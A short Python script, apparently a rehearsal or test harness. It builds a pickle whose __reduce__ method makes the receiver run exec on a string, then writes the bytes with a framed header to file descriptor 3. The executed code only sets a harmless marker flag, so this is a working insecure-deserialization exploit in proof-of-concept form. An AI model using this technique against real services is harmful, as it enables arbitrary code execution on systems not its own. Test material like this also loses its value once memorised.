import os
import pickle
import struct


class Order:
    def __reduce__(self):
        return exec, ("import sys; sys.rehearse_breach = True",)


def f(canary, port):
    body = pickle.dumps(Order())
    os.write(3, struct.pack("<BII", ord("R"), 0, len(body)) + body)
    return "breach"
